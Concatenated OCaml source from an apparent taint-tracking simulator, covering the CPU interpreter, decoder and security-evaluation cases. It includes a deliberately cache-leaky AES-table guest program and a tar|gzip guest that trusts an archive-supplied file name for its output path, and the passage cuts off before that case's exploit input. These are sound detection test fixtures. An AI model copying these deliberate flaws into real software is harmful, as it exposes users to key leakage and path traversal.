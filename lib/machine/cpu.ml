open Shift_isa
module Tracking = Shift_tracking.Tracking

type t = {
  program : Program.t;
  decoded : Decode.t;
  mem : Shift_mem.Memory.t;
  values : int64 array;
  nats : bool array;
  preds : bool array;
  mutable unat : int64;
  mutable ip : int;
  stats : Stats.t;
  pipe : Pipeline.t;
  cache : Cache.t;
  mutable syscall_handler : (t -> unit) option;
  mutable trace : (t -> int -> Instr.t -> unit) option;
  mutable flowtrace : Flowtrace.t;
  ftregs : Flowtrace.regs;
  mutable hwtrace : Hwtrace.t;
  call_stack : (int * int64) Stack.t;
  sb : sb;
  mutable tracking : Tracking.t;
}

(* Superblock compiler state (see {!Superblock}).  Lives on the machine
   so the block cache follows the hart, but it is a *derived* cache:
   nothing here is ever snapshotted, and a restored machine starts cold
   with identical simulated counters. *)
and sb = {
  mutable sb_on : bool;
  sb_hot : int array;                      (* per-entry-pc execution counts *)
  sb_blocks : sb_block option array;       (* compiled block per entry pc *)
  mutable sb_watched : bool;               (* memory write-watch registered *)
  sb_stats : Stats.superblocks;
}

and sb_block = {
  sb_entry : int;
  sb_len : int;
  sb_ft : bool;              (* flowtrace.enabled the block was compiled for *)
  sb_provs : int array;      (* per-instruction provenance index, for unwinds *)
  sb_prov_counts : int array;(* per-provenance slot counts for the whole block *)
  sb_body : t -> unit;       (* straight-line compiled body *)
}

type outcome =
  | Exited of int64
  | Faulted of Fault.t * int
  | Out_of_fuel

exception Exit_requested of int64
exception Fault_exn of Fault.t
exception Halt_exn of int64

let branch_penalty = 1
let chk_penalty = 5
let syscall_overhead = 100
let call_stack_limit = 100_000

let create ?(entry = "_start") ?mem program =
  let preds = Array.make Pred.count false in
  preds.(Pred.p0) <- true;
  let size = Program.size program in
  {
    program;
    decoded = Decode.of_program program;
    mem = (match mem with Some m -> m | None -> Shift_mem.Memory.create ());
    values = Array.make Reg.count 0L;
    nats = Array.make Reg.count false;
    preds;
    unat = 0L;
    ip = (if Program.has_label program entry then Program.target program entry else 0);
    stats = Stats.create ();
    pipe = Pipeline.create ();
    cache = Cache.create ();
    syscall_handler = None;
    trace = None;
    flowtrace = Flowtrace.disabled ();
    ftregs = Flowtrace.fresh_regs ();
    hwtrace = Hwtrace.disabled ();
    call_stack = Stack.create ();
    sb =
      {
        sb_on = true;
        sb_hot = Array.make size 0;
        sb_blocks = Array.make size None;
        sb_watched = false;
        sb_stats = Stats.sb_create ();
      };
    tracking = Tracking.default;
  }

let get_value t r = t.values.(r)

let set_value t r v = if r <> Reg.zero then t.values.(r) <- v

let get_nat t r = t.nats.(r)

let set_nat t r b = if r <> Reg.zero then t.nats.(r) <- b

let add_io_cycles t n =
  t.stats.io_cycles <- t.stats.io_cycles + n;
  Pipeline.stall t.pipe n

let shift_amount b = Int64.to_int (Int64.logand b 63L)

let eval_arith a x y =
  match (a : Instr.arith) with
  | Instr.Add -> Int64.add x y
  | Instr.Sub -> Int64.sub x y
  | Instr.Mul -> Int64.mul x y
  | Instr.Div ->
      if Int64.equal y 0L then raise (Fault_exn Fault.Div_by_zero)
      else if Int64.equal y (-1L) then Int64.neg x
      else Int64.div x y
  | Instr.Rem ->
      if Int64.equal y 0L then raise (Fault_exn Fault.Div_by_zero)
      else if Int64.equal y (-1L) then 0L
      else Int64.rem x y
  | Instr.And -> Int64.logand x y
  | Instr.Or -> Int64.logor x y
  | Instr.Xor -> Int64.logxor x y
  | Instr.Andcm -> Int64.logand x (Int64.lognot y)
  | Instr.Shl -> Int64.shift_left x (shift_amount y)
  | Instr.Shr -> Int64.shift_right_logical x (shift_amount y)
  | Instr.Sar -> Int64.shift_right x (shift_amount y)

let operand_value t = function
  | Instr.R r -> t.values.(r)
  | Instr.Imm i -> i

let operand_nat t = function
  | Instr.R r -> t.nats.(r)
  | Instr.Imm _ -> false

let set_pred t p b = if p <> Pred.p0 then t.preds.(p) <- b

let unat_bit addr = Int64.to_int (Int64.logand (Int64.shift_right_logical addr 3) 63L)

let goto t target =
  t.ip <- target;
  t.stats.branches <- t.stats.branches + 1;
  Pipeline.redirect t.pipe ~penalty:branch_penalty

let push_call t =
  if Stack.length t.call_stack >= call_stack_limit then
    raise (Fault_exn Fault.Call_stack_overflow);
  Stack.push (t.ip + 1, t.unat) t.call_stack

let indirect_target t v =
  let n = Int64.to_int v in
  if Int64.compare v 0L < 0 || n >= Program.size t.program then
    raise (Fault_exn (Fault.Invalid_branch v));
  n

(* Executes the functional effect of one instruction whose qualifying
   predicate is true, and advances [t.ip].  [d.target] carries the
   pre-resolved label target for the branch-like operations, so the hot
   loop never consults the label table. *)
let exec_op t (d : Decode.info) =
  (* Flowtrace hooks fire only for original-program instructions whose
     trace is enabled: one load-and-branch here when tracing is off, and
     the SHIFT instrumentation (non-Orig provenance) stays transparent
     to the provenance shadow. *)
  let ft = t.flowtrace in
  let ft_on = ft.Flowtrace.enabled && d.Decode.prov_index = 0 in
  match d.Decode.op with
  | Instr.Nop ->
      t.ip <- t.ip + 1
  | Instr.Halt -> raise (Halt_exn t.values.(Reg.ret))
  | Instr.Movi (d, v) ->
      set_value t d v;
      set_nat t d false;
      if ft_on then Flowtrace.on_const ft t.ftregs ~dst:d;
      t.ip <- t.ip + 1
  | Instr.Mov (d, s) ->
      set_value t d t.values.(s);
      set_nat t d t.nats.(s);
      if ft_on then Flowtrace.on_move ft t.ftregs ~ip:t.ip ~dst:d ~src:s;
      t.ip <- t.ip + 1
  | Instr.Lea (dst, _) ->
      set_value t dst (Int64.of_int d.Decode.target);
      set_nat t dst false;
      if ft_on then Flowtrace.on_const ft t.ftregs ~dst;
      t.ip <- t.ip + 1
  | Instr.Arith (a, dst, s1, o) ->
      let v = eval_arith a t.values.(s1) (operand_value t o) in
      (* xor r = s, s and sub r = s, s are the recognised clear idioms
         (paper §3.3.2): the result does not depend on the source value,
         so the taint is purged. *)
      let clear_idiom =
        match (a, o) with
        | (Instr.Xor | Instr.Sub), Instr.R s2 -> s1 = s2
        | _ -> false
      in
      let nat =
        (not clear_idiom) && (t.nats.(s1) || operand_nat t o)
      in
      set_value t dst v;
      set_nat t dst nat;
      if ft_on then
        Flowtrace.on_arith ft t.ftregs ~ip:t.ip ~dst ~src1:s1
          ~src2:(match o with Instr.R r -> Some r | Instr.Imm _ -> None)
          ~clear:clear_idiom;
      t.ip <- t.ip + 1
  | Instr.Cmp { cond; pt; pf; src1; src2; taint_aware } ->
      let nat = t.nats.(src1) || operand_nat t src2 in
      if nat && not taint_aware then begin
        (* Baseline deferred-exception behaviour: survive speculation
           failure by clearing both branch predicates. *)
        set_pred t pt false;
        set_pred t pf false
      end
      else begin
        let r = Cond.eval cond t.values.(src1) (operand_value t src2) in
        set_pred t pt r;
        set_pred t pf (not r)
      end;
      t.ip <- t.ip + 1
  | Instr.Tnat { pt; pf; src } ->
      set_pred t pt t.nats.(src);
      set_pred t pf (not t.nats.(src));
      if ft_on then
        Flowtrace.on_check ft t.ftregs ~ip:t.ip ~src ~tainted:t.nats.(src);
      t.ip <- t.ip + 1
  | Instr.Extr { dst; src; pos; len } ->
      (* a full-width extract (len = 64) must keep all 64 bits; shifting
         1L by (len land 63) = 0 would compute an empty mask *)
      let mask =
        if len >= 64 then -1L else Int64.sub (Int64.shift_left 1L (len land 63)) 1L
      in
      set_value t dst (Int64.logand (Int64.shift_right_logical t.values.(src) (pos land 63)) mask);
      set_nat t dst t.nats.(src);
      if ft_on then Flowtrace.on_move ft t.ftregs ~ip:t.ip ~dst ~src;
      t.ip <- t.ip + 1
  | Instr.Ld { width; dst; addr; spec; fill } ->
      let a = t.values.(addr) in
      let invalid = t.nats.(addr) || not (Shift_mem.Addr.is_valid a) in
      if invalid then
        if spec then begin
          set_value t dst 0L;
          set_nat t dst true;
          if ft_on then Flowtrace.on_spec_nat ft t.ftregs ~ip:t.ip ~dst
        end
        else if t.nats.(addr) then
          raise (Fault_exn (Fault.Nat_consumption Fault.Load_address))
        else raise (Fault_exn (Fault.Invalid_address a))
      else begin
        let v = Shift_mem.Memory.read t.mem a ~width:(Instr.bytes_of_width width) in
        set_value t dst v;
        set_nat t dst (fill && Int64.logand (Int64.shift_right_logical t.unat (unat_bit a)) 1L = 1L);
        t.stats.loads <- t.stats.loads + 1;
        if ft_on then
          Flowtrace.on_load ft t.ftregs ~ip:t.ip ~dst ~addr:a
            ~len:(Instr.bytes_of_width width)
      end;
      t.ip <- t.ip + 1
  | Instr.St { width; addr; src; spill } ->
      let a = t.values.(addr) in
      if t.nats.(addr) then
        raise (Fault_exn (Fault.Nat_consumption Fault.Store_address));
      if not (Shift_mem.Addr.is_valid a) then
        raise (Fault_exn (Fault.Invalid_address a));
      if t.nats.(src) && not spill then
        raise (Fault_exn (Fault.Nat_consumption Fault.Store_value));
      if spill then begin
        let bit = unat_bit a in
        let mask = Int64.shift_left 1L bit in
        t.unat <-
          (if t.nats.(src) then Int64.logor t.unat mask
           else Int64.logand t.unat (Int64.lognot mask))
      end;
      Shift_mem.Memory.write t.mem a ~width:(Instr.bytes_of_width width) t.values.(src);
      t.stats.stores <- t.stats.stores + 1;
      if ft_on then
        Flowtrace.on_store ft t.ftregs ~ip:t.ip ~src ~addr:a
          ~len:(Instr.bytes_of_width width);
      t.ip <- t.ip + 1
  | Instr.Chk_s { src; _ } ->
      if ft_on then
        Flowtrace.on_check ft t.ftregs ~ip:t.ip ~src ~tainted:t.nats.(src);
      if t.nats.(src) then begin
        t.ip <- d.Decode.target;
        t.stats.branches <- t.stats.branches + 1;
        Pipeline.redirect t.pipe ~penalty:chk_penalty
      end
      else t.ip <- t.ip + 1
  | Instr.Br _ -> goto t d.Decode.target
  | Instr.Br_reg r ->
      if t.nats.(r) then
        raise (Fault_exn (Fault.Nat_consumption Fault.Branch_target));
      goto t (indirect_target t t.values.(r))
  | Instr.Call _ ->
      push_call t;
      goto t d.Decode.target
  | Instr.Call_reg r ->
      if t.nats.(r) then
        raise (Fault_exn (Fault.Nat_consumption Fault.Call_target));
      let target = indirect_target t t.values.(r) in
      push_call t;
      goto t target
  | Instr.Ret ->
      if Stack.is_empty t.call_stack then
        raise (Fault_exn Fault.Call_stack_underflow);
      let rip, unat = Stack.pop t.call_stack in
      t.unat <- unat;
      goto t rip
  | Instr.Fetchadd { dst; addr; inc } ->
      let a = t.values.(addr) in
      if t.nats.(addr) then
        raise (Fault_exn (Fault.Nat_consumption Fault.Load_address));
      if not (Shift_mem.Addr.is_valid a) then raise (Fault_exn (Fault.Invalid_address a));
      let old = Shift_mem.Memory.read t.mem a ~width:8 in
      Shift_mem.Memory.write t.mem a ~width:8 (Int64.add old t.values.(inc));
      set_value t dst old;
      set_nat t dst false;
      t.stats.loads <- t.stats.loads + 1;
      t.stats.stores <- t.stats.stores + 1;
      if ft_on then Flowtrace.on_load ft t.ftregs ~ip:t.ip ~dst ~addr:a ~len:8;
      t.ip <- t.ip + 1
  | Instr.Setnat r ->
      (* under a per-instruction backend the marker is a coprocessor
         directive (mirrored by track_op), not a real NaT write — a
         stray NaT in uninstrumented code would fault *)
      if not (Tracking.per_instr t.tracking) then set_nat t r true;
      if ft_on then Flowtrace.on_setnat ft t.ftregs ~ip:t.ip ~reg:r;
      t.ip <- t.ip + 1
  | Instr.Clrnat r ->
      if not (Tracking.per_instr t.tracking) then set_nat t r false;
      if ft_on then Flowtrace.on_clrnat ft t.ftregs ~ip:t.ip ~reg:r;
      t.ip <- t.ip + 1
  | Instr.Syscall ->
      t.stats.syscalls <- t.stats.syscalls + 1;
      Pipeline.stall t.pipe syscall_overhead;
      (match t.syscall_handler with
      | Some h -> h t
      | None -> ());
      (* the handler wrote the return value; whatever provenance the
         register carried before the call no longer describes it *)
      if ft.Flowtrace.enabled then begin
        t.ftregs.Flowtrace.id.(Reg.ret) <- 0;
        t.ftregs.Flowtrace.depth.(Reg.ret) <- 0;
        t.ftregs.Flowtrace.washed.(Reg.ret) <- 0
      end;
      t.ip <- t.ip + 1

(* Mirror of [exec_op]'s taint semantics for the decoupled tag
   coprocessor (Tracking backend [coproc]): the guest runs
   uninstrumented while the core emits one propagation record per
   retiring instruction onto the asynchronous tag queue.  The mirror
   reads operands pre-execution — the same values [exec_op] is about to
   consume — and only for addresses [exec_op] would accept, so a
   faulting instruction enqueues nothing.  Syscalls are a
   synchronisation barrier: the queue is flushed before the OS model
   runs, keeping the H1–H5 sink checks exact. *)
let track_op t (d : Decode.info) =
  let tk = t.tracking in
  let checks = Tracking.low_level_checks tk in
  (match d.Decode.op with
  | Instr.Nop | Instr.Halt | Instr.Cmp _ | Instr.Tnat _ | Instr.Chk_s _
  | Instr.Br _ | Instr.Call _ | Instr.Ret ->
      ()
  | Instr.Movi (dst, _) -> Tracking.push tk (Tracking.Set { dst; tainted = false })
  | Instr.Lea (dst, _) -> Tracking.push tk (Tracking.Set { dst; tainted = false })
  | Instr.Mov (dst, src) -> Tracking.push tk (Tracking.Move { dst; src })
  | Instr.Extr { dst; src; _ } -> Tracking.push tk (Tracking.Move { dst; src })
  | Instr.Arith (a, dst, s1, o) ->
      let clear_idiom =
        match (a, o) with
        | (Instr.Xor | Instr.Sub), Instr.R s2 -> s1 = s2
        | _ -> false
      in
      if clear_idiom then Tracking.push tk (Tracking.Set { dst; tainted = false })
      else
        let s2 = match o with Instr.R r -> r | Instr.Imm _ -> Reg.zero in
        Tracking.push tk (Tracking.Union { dst; s1; s2 })
  | Instr.Ld { width; dst; addr; _ } ->
      let a = t.values.(addr) in
      if Shift_mem.Addr.is_valid a then begin
        if checks then
          Tracking.push tk (Tracking.Check { what = Tracking.Load_address; reg = addr });
        Tracking.push tk
          (Tracking.Load { dst; addr = a; len = Instr.bytes_of_width width })
      end
  | Instr.St { width; addr; src; _ } ->
      let a = t.values.(addr) in
      if Shift_mem.Addr.is_valid a then begin
        if checks then
          Tracking.push tk (Tracking.Check { what = Tracking.Store_address; reg = addr });
        Tracking.push tk
          (Tracking.Store { addr = a; len = Instr.bytes_of_width width; src })
      end
  | Instr.Fetchadd { dst; addr; _ } ->
      if Shift_mem.Addr.is_valid t.values.(addr) then begin
        if checks then
          Tracking.push tk (Tracking.Check { what = Tracking.Load_address; reg = addr });
        Tracking.push tk (Tracking.Set { dst; tainted = false })
      end
  | Instr.Br_reg r ->
      if checks then
        Tracking.push tk (Tracking.Check { what = Tracking.Branch_target; reg = r })
  | Instr.Call_reg r ->
      if checks then
        Tracking.push tk (Tracking.Check { what = Tracking.Call_target; reg = r })
  | Instr.Setnat r -> Tracking.push tk (Tracking.Set { dst = r; tainted = true })
  | Instr.Clrnat r -> Tracking.push tk (Tracking.Set { dst = r; tainted = false })
  | Instr.Syscall ->
      Tracking.flush tk;
      Tracking.push tk (Tracking.Set { dst = Reg.ret; tainted = false }));
  let stall = Tracking.take_stall tk in
  if stall > 0 then Pipeline.stall t.pipe stall

let finish t outcome =
  t.stats.cycles <- Pipeline.cycles t.pipe;
  outcome

(* One guest load/store touching the L1D model: account the access and,
   when the observation trace is live, record the set index it mapped to
   along with the provenance id of the address register.  The
   interpreter below and every superblock closure go through here, so
   the hardware trace cannot depend on which engine ran the access. *)
let touch_cache t ~pc ~store ~areg addr =
  let hit = Cache.access t.cache addr in
  let hw = t.hwtrace in
  if hw.Hwtrace.enabled then begin
    let prov =
      if t.flowtrace.Flowtrace.enabled then begin
        let id = t.ftregs.Flowtrace.id.(areg) in
        if id <> 0 then id else t.ftregs.Flowtrace.washed.(areg)
      end
      else 0
    in
    Hwtrace.record hw ~pc ~set:(Cache.set_of t.cache addr) ~hit ~store ~prov
  end;
  hit

let step t =
  if t.ip < 0 || t.ip >= Program.size t.program then
    Some (finish t (Faulted (Fault.Invalid_branch (Int64.of_int t.ip), t.ip)))
  else begin
    let start_ip = t.ip in
    let d = Array.unsafe_get t.decoded t.ip in
    (match t.trace with Some f -> f t t.ip t.program.code.(t.ip) | None -> ());
    let executing = t.preds.(d.Decode.qp) in
    t.stats.instructions <- t.stats.instructions + 1;
    t.stats.slots_by_prov.(d.Decode.prov_index) <-
      t.stats.slots_by_prov.(d.Decode.prov_index) + 1;
    if not executing then t.stats.predicated_off <- t.stats.predicated_off + 1;
    (* loads consult the cache model for their use-latency; stores
       allocate their line but are assumed write-buffered *)
    let latency =
      if executing && d.Decode.is_mem then
        match d.Decode.op with
        | Instr.Ld { addr; _ }
          when (not t.nats.(addr)) && Shift_mem.Addr.is_valid t.values.(addr) ->
            if touch_cache t ~pc:start_ip ~store:false ~areg:addr t.values.(addr)
            then d.Decode.latency
            else d.Decode.latency + Cache.miss_penalty
        | Instr.St { addr; _ }
          when (not t.nats.(addr)) && Shift_mem.Addr.is_valid t.values.(addr) ->
            ignore (touch_cache t ~pc:start_ip ~store:true ~areg:addr t.values.(addr));
            d.Decode.latency
        | _ -> d.Decode.latency
      else d.Decode.latency
    in
    Pipeline.issue t.pipe ~executing ~reads:d.Decode.reads
      ~writes:d.Decode.writes
      ~pred_writes:d.Decode.pred_writes
      ~qp:d.Decode.qp ~is_mem:d.Decode.is_mem ~latency;
    (* decoupled-backend hook: one never-taken branch under nat/none *)
    (let tk = t.tracking in
     if Tracking.per_instr tk then begin
       Tracking.tick tk;
       if executing then track_op t d
     end);
    if executing then
      try
        exec_op t d;
        None
      with
      | Fault_exn f -> Some (finish t (Faulted (f, start_ip)))
      | Halt_exn v | Exit_requested v -> Some (finish t (Exited v))
    else begin
      t.ip <- t.ip + 1;
      None
    end
  end

type status = [ `Yielded | `Finished of outcome ]

let run_for t ~budget =
  let rec go n =
    if n <= 0 then `Yielded
    else
      match step t with
      | Some outcome -> `Finished outcome
      | None -> go (n - 1)
  in
  (* keep the cycle count consistent even when a syscall handler raises
     (policy violations propagate as exceptions) *)
  Fun.protect ~finally:(fun () -> t.stats.cycles <- Pipeline.cycles t.pipe) (fun () -> go budget)

let run ?(fuel = 2_000_000_000) t =
  match run_for t ~budget:fuel with
  | `Finished outcome -> outcome
  | `Yielded -> finish t Out_of_fuel
