open Shift_isa

type info = {
  op : Instr.op;
  qp : Pred.t;
  prov_index : int;
  latency : int;
  is_mem : bool;
  reads : Reg.t array;
  writes : Reg.t array;
  pred_writes : Pred.t array;
  target : int;
}

type t = info array

let no_regs : int array = [||]

let latency_of (op : Instr.op) =
  match op with
  | Instr.Ld _ -> 2
  | Instr.Arith (Instr.Mul, _, _, _) -> 3
  | Instr.Arith ((Instr.Div | Instr.Rem), _, _, _) -> 12
  | _ -> 1

let arr = function [] -> no_regs | l -> Array.of_list l

let info_of program (i : Instr.t) =
  let target =
    match i.Instr.op with
    | Instr.Br l | Instr.Call l | Instr.Lea (_, l) -> Program.target program l
    | Instr.Chk_s { recovery; _ } -> Program.target program recovery
    | _ -> -1
  in
  {
    op = i.Instr.op;
    qp = i.Instr.qp;
    prov_index = Prov.index i.Instr.prov;
    latency = latency_of i.Instr.op;
    is_mem = Instr.is_mem i.Instr.op;
    reads = arr (Instr.reads i.Instr.op);
    writes = arr (Instr.writes i.Instr.op);
    pred_writes = arr (Instr.writes_preds i.Instr.op);
    target;
  }

let of_program (p : Program.t) = Array.map (info_of p) p.Program.code
