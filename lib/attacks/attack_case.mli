(** A security-evaluation case (one row of the paper's Table 2).

    Each case is a guest program with the same vulnerability class as
    the real CVE it stands in for, a benign input under which the
    program must run cleanly (no false positive), and a forged exploit
    input under which the listed policy must fire. *)

type t = {
  cve : string;               (** CVE identifier, or "N/A" *)
  program_name : string;      (** e.g. "GNU Tar (1.4)" *)
  language : string;          (** language of the original program *)
  attack_type : string;       (** e.g. "Directory Traversal" *)
  detection_policies : string;(** Table-2 "Detection Policies" column *)
  expected_policy : string;   (** the alert the exploit must raise *)
  program : Ir.program;
  policy : Shift_policy.Policy.t;
  benign : Shift_os.World.t -> unit;   (** benign-input world setup *)
  exploit : Shift_os.World.t -> unit;  (** exploit-input world setup *)
  provenance : (string * int * int) option;
      (** Expected provenance of the exploit bytes when the case is run
          with {!Shift_machine.Flowtrace} at byte granularity:
          [(channel, lo, hi)] means the alert's chain must contain the
          hop ["input <channel>[<lo>..<hi>] via ..."] — the inclusive
          input-stream offsets of the attacker-controlled fragment. *)
  images : (string * Ir.program) list;
      (** auxiliary programs the guest may [sys_exec] by name —
          multi-process cases only, [[]] otherwise *)
  multiproc : string option;
      (** [Some comm] runs the case under the multi-process OS
          personality with pid 1 named [comm]; [None] (all Table-2
          rows) keeps the classic single-process shape *)
  variants : (int -> Shift_os.World.t -> unit) option;
      (** Input variants for the leak detector ({!Shift.Leak}):
          [variants i] is a complete world setup whose tainted bytes —
          and nothing else — differ with [i] (variant 0 is the
          baseline).  [None] for cases with no side-channel story. *)
}

(** {1 Session plumbing}

    Every front end (CLI, serve catalogue, tests) goes through these so
    a case's machine shape — threading, aux images — cannot drift
    between entry points. *)

val config :
  ?trace:Shift_machine.Flowtrace.options ->
  ?hwtrace:bool ->
  ?superblocks:bool ->
  ?backend:Shift_tracking.Backend.t ->
  mode:Shift_compiler.Mode.t ->
  input:(Shift_os.World.t -> unit) ->
  t ->
  Shift.Session.Config.t
(** The session configuration for running [t] under [input] (pass
    [t.benign] or [t.exploit]): its policy, machine shape and compiled
    aux images.  For a single-process case this is byte-identical to
    the config the pre-multiprocess front ends built. *)

val image :
  ?backend:Shift_tracking.Backend.t ->
  mode:Shift_compiler.Mode.t ->
  t ->
  Shift_compiler.Image.t
(** The case's main program, compiled like the CLI compiles it. *)

val run :
  ?trace:Shift_machine.Flowtrace.options ->
  ?superblocks:bool ->
  ?backend:Shift_tracking.Backend.t ->
  mode:Shift_compiler.Mode.t ->
  input:(Shift_os.World.t -> unit) ->
  t ->
  Shift.Report.t
(** Build and execute the case in one step. *)
