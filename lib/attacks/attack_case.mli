(** A security-evaluation case (one row of the paper's Table 2).

    Each case is a guest program with the same vulnerability class as
    the real CVE it stands in for, a benign input under which the
    program must run cleanly (no false positive), and a forged exploit
    input under which the listed policy must fire. *)

type t = {
  cve : string;               (** CVE identifier, or "N/A" *)
  program_name : string;      (** e.g. "GNU Tar (1.4)" *)
  language : string;          (** language of the original program *)
  attack_type : string;       (** e.g. "Directory Traversal" *)
  detection_policies : string;(** Table-2 "Detection Policies" column *)
  expected_policy : string;   (** the alert the exploit must raise *)
  program : Ir.program;
  policy : Shift_policy.Policy.t;
  benign : Shift_os.World.t -> unit;   (** benign-input world setup *)
  exploit : Shift_os.World.t -> unit;  (** exploit-input world setup *)
  provenance : (string * int * int) option;
      (** Expected provenance of the exploit bytes when the case is run
          with {!Shift_machine.Flowtrace} at byte granularity:
          [(channel, lo, hi)] means the alert's chain must contain the
          hop ["input <channel>[<lo>..<hi>] via ..."] — the inclusive
          input-stream offsets of the attacker-controlled fragment. *)
}
