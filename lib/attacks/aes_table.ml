(* Lookup-table AES (toy first round): the classic cache side channel.

   The guest reads a 16-byte secret key from a file and, for each byte,
   indexes a 256-entry * 8-byte lookup table — the shape of an AES
   T-table round.  The table spans 32 cache lines, so the *set index* of
   each table access reveals the top five bits of the key byte that
   steered it, even though the index was bounds-checked and untainted
   (taint-wise the program is clean: no policy fires).  Under the ct-seq
   speculation contract the cache-set trace is observable, so the leak
   detector flags the run and names the key bytes via washed provenance.

   [case_ct] is the constant-time rewrite of the same computation: every
   key byte scans the whole table and selects its entry with an
   arithmetic mask, so the access sequence is key-independent and the
   detector reports it clean. *)

open Build
open Build.Infix

(* the table contents are irrelevant to the side channel (only which
   line is touched matters); any fixed permutation-ish data will do *)
let sbox = global_words "sbox" (List.init 256 (fun j -> Int64.of_int ((j * 167 + 13) land 255)))

let prologue =
  [
    set "fd" (call "sys_open" [ str "key.bin" ]);
    when_ (v "fd" <: i 0) [ ret (i 1) ];
    set "buf" (call "malloc" [ i 32 ]);
    set "n" (call "sys_read" [ v "fd"; v "buf"; i 16 ]);
    when_ (v "n" <>: i 16) [ ret (i 1) ];
    set "acc" (i 0);
  ]

(* the leaky kernel: one table load per key byte, indexed by its value.
   The index steers memory, so it is bounds-masked and untainted — the
   §3.3.2 pattern — which is exactly why DIFT alone cannot see this
   leak. *)
let leaky_program =
  {
    Ir.globals = [ sbox ];
    funcs =
      [
        func "main" ~params:[]
          ~locals:
            [ scalar "fd"; scalar "buf"; scalar "n"; scalar "acc";
              scalar "k"; scalar "idx" ]
          (prologue
          @ for_up "k" (i 0) (i 16)
              [
                set "idx" (call "untaint" [ load8 (v "buf" +: v "k") &: i 255 ]);
                set "acc" (v "acc" ^: load64 (v "sbox" +: (v "idx" <<: i 3)));
              ]
          @ [ ret (v "acc" &: i 255) ]);
      ];
  }

(* the constant-time twin: scan all 256 entries per key byte and keep
   the wanted one with a branch-free mask, so the address trace is a
   fixed function of the program, not the key *)
let ct_program =
  {
    Ir.globals = [ sbox ];
    funcs =
      [
        func "main" ~params:[]
          ~locals:
            [ scalar "fd"; scalar "buf"; scalar "n"; scalar "acc";
              scalar "k"; scalar "b"; scalar "j"; scalar "t"; scalar "m" ]
          (prologue
          @ for_up "k" (i 0) (i 16)
              [
                set "b" (call "untaint" [ load8 (v "buf" +: v "k") &: i 255 ]);
                set "j" (i 0);
                while_ (v "j" <: i 256)
                  [
                    set "t" (load64 (v "sbox" +: (v "j" <<: i 3)));
                    set "m" (i 0 -: (v "j" ==: v "b"));
                    set "acc" (v "acc" ^: (v "t" &: v "m"));
                    set "j" (v "j" +: i 1);
                  ];
              ]
          @ [ ret (v "acc" &: i 255) ]);
      ];
  }

(* variant [n]'s 16-byte key: bytes spread across distinct table lines,
   and every variant differs from the baseline in all 16 (tainted) key
   bytes — nothing else in the world changes *)
let key n = String.init 16 (fun k -> Char.chr ((64 * n + 16 * k + 5) land 255))

let set_key n w = Shift_os.World.add_file w "key.bin" (key n)

let policy =
  { Shift_policy.Policy.default with Shift_policy.Policy.taint_files = true }

let case =
  {
    Attack_case.cve = "N/A";
    program_name = "AES-table (toy)";
    language = "C";
    attack_type = "Cache Side Channel";
    detection_policies = "ct-seq contract (leak detector)";
    expected_policy = "none";
    program = leaky_program;
    policy;
    benign = set_key 0;
    exploit = set_key 1;
    provenance = None;
    images = [];
    multiproc = None;
    variants = Some set_key;
  }

let case_ct =
  {
    case with
    Attack_case.program_name = "AES-ct (toy)";
    attack_type = "Cache Side Channel (constant-time)";
    detection_policies = "ct-seq contract (clean)";
    program = ct_program;
  }
