(* Directory traversal across a pipeline: tar | gzip.

   The [tar_traversal] archive bug, split the way a real extraction
   pipeline runs it: the front process reads the (tainted) archive and
   streams a member — 32-byte name header plus data — down a pipe to a
   forked-and-exec'd compressor, which trusts the embedded name for its
   output path.  The tainted bytes cross a fork, an exec and a pipe
   before reaching the sink; the H2 policy must still fire in the
   child, and the provenance chain must name the archive bytes read by
   the parent.

   Policy H2: tainted file paths must stay inside the document root
   ("out"). *)

open Build
open Build.Infix

let name_field = 32

(* pid 1, "tar": read one member from the archive and pipe it to the
   compressor child.  The pipe is the process's first descriptor
   allocation, so the read end is always fd 3 — the child relies on
   that, the way a real pipeline relies on stdin being fd 0. *)
let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "main" ~params:[]
          ~locals:
            [ array "fds" 16; scalar "fd"; array "buf" 512; scalar "n";
              scalar "pid"; scalar "st" ]
          [
            Ir.Expr (call "sys_pipe" [ v "fds" ]);
            set "fd" (call "sys_open" [ str "archive.tar" ]);
            when_ (v "fd" <: i 0) [ ret (i 1) ];
            set "n" (call "sys_read" [ v "fd"; v "buf"; i 512 ]);
            when_ (v "n" <: i name_field) [ ret (i 2) ];
            set "pid" (call "sys_fork" []);
            when_ (v "pid" <: i 0) [ ret (i 3) ];
            when_ (v "pid" ==: i 0)
              [
                (* the compressor only reads: drop the inherited write
                   end so the parent's close really is EOF *)
                Ir.Expr (call "sys_close" [ load64 (v "fds" +: i 8) ]);
                Ir.Expr (call "sys_exec" [ str "gzip"; i 0 ]);
                ret (i 127);
              ];
            Ir.Expr (call "sys_close" [ load64 (v "fds") ]);
            Ir.Expr (call "sys_write" [ load64 (v "fds" +: i 8); v "buf"; v "n" ]);
            Ir.Expr (call "sys_close" [ load64 (v "fds" +: i 8) ]);
            set "st" (call "sys_wait" [ v "pid" ]);
            ret (v "st");
          ];
      ];
  }

(* pid 2, "gzip": drain the pipe (inherited read end, fd 3), take the
   leading header as the output name, create the file — the H2 sink *)
let gzip =
  {
    Ir.globals = [];
    funcs =
      [
        func "main" ~params:[]
          ~locals:
            [ array "buf" 512; array "name" 64; scalar "n"; scalar "k";
              scalar "ch"; scalar "ofd" ]
          [
            (* the pipe blocks until the parent has written, then one
               read drains the streamed member *)
            set "n" (call "sys_read" [ i 3; v "buf"; i 512 ]);
            when_ (v "n" <: i name_field) [ ret (i 1) ];
            set "k" (i 0);
            while_ (v "k" <: i name_field)
              [
                set "ch" (load8 (v "buf" +: v "k"));
                when_ (v "ch" ==: i 0) [ Ir.Break ];
                store8 (v "name" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "name" +: v "k") (i 0);
            set "ofd" (call "sys_open" [ v "name" ]);
            ecall "print" [ v "name" ];
            ret (i 0);
          ];
      ];
  }

(* member: NUL-padded 32-byte name header, then the data *)
let archive ~name ~data =
  let padded = name ^ String.make (name_field - String.length name) '\000' in
  padded ^ data

let policy =
  { Shift_policy.Policy.default with
    Shift_policy.Policy.taint_files = true;
    h1 = true;
    h2 = Some "out";
  }

let case =
  {
    Attack_case.cve = "CVE-2001-1267/pipe";
    program_name = "tar|gzip pipeline";
    language = "C";
    attack_type = "Directory Traversal (cross-process)";
    detection_policies = "H1/H2 + Low level policies";
    expected_policy = "H2";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.add_file w ~tainted:true "archive.tar"
          (archive ~name:"notes.txt" ~data:"hello pipeline"));
    exploit =
      (fun w ->
